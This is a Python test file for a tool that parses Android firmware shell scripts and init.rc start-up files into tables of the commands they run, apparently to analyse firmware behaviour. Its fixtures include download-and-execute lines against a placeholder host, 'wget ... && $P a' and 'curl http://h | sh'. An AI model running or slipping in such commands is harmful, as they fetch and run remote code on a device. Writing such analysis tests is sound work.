from __future__ import annotations

from pathlib import Path

import pytest
from tests.readers.nodes import node, table

from gifthorse.readers import commands, init_rc
from gifthorse.tables import Rows


def test_a_script_gives_a_row_a_command(tmp_path: Path) -> None:
    rows = Rows()
    commands.read(node(tmp_path, b"#!/system/bin/sh\nP=/data/x\nwget -O $P http://h/f && $P a\n", kind="script"), rows)
    found = table(rows, "commands")
    assert [(r["program"], r["arguments"], r["runs"], r["writes"], r["line"]) for r in found] == [
        ("wget", ["-O", "/data/x", "http://h/f"], [], ["/data/x"], 3),
        ("x", ["a"], ["/data/x"], [], 3),
    ]
    assert {r["source"] for r in found} == {"script"}


@pytest.mark.parametrize(
    ("head", "is_shell"),
    [
        (b"#!/system/bin/sh\n", True),
        (b"#! /vendor/bin/sh -e\n", True),
        (b"#!/usr/bin/env bash\n", True),
        (b"echo a\n", True),
        (b"#!/usr/bin/python3\n", False),
        (b"#!/usr/bin/env python\n", False),
    ],
)
def test_only_shells_are_read(tmp_path: Path, head: bytes, is_shell: bool) -> None:
    rows = Rows()
    commands.read(node(tmp_path, head + b"a\n", kind="script"), rows)
    assert bool(table(rows, "commands")) == is_shell


def test_a_script_of_the_recovery_system_is_left_out(tmp_path: Path) -> None:
    rows = Rows()
    commands.read(node(tmp_path, b"#!/sbin/sh\na\n", kind="script", partition="recovery"), rows)
    assert not table(rows, "commands")


def test_what_start_up_files_run(tmp_path: Path) -> None:
    text = (
        b'service a /system/bin/sh -c "curl http://h | sh"\n    user system\n'
        b"on boot\n    exec u:r:x:s0 system -- /vendor/bin/b c\n    exec /system/bin/d\n    chmod 0660 /dev/x\n"
        b"    start a\n"
    )
    rows = Rows()
    init_rc.read(node(tmp_path, text, kind="init-rc"), rows)
    assert [(r["source"], r["name"], r["program"], r["arguments"]) for r in table(rows, "commands")] == [
        ("service", "a", "sh", ["-c", "curl http://h | sh"]),
        ("service", "a", "curl", ["http://h"]),
        ("service", "a", "sh", []),
        ("exec", "boot", "b", ["c"]),
        ("exec", "boot", "d", []),
        ("init", "boot", "chmod", ["0660", "/dev/x"]),
    ]
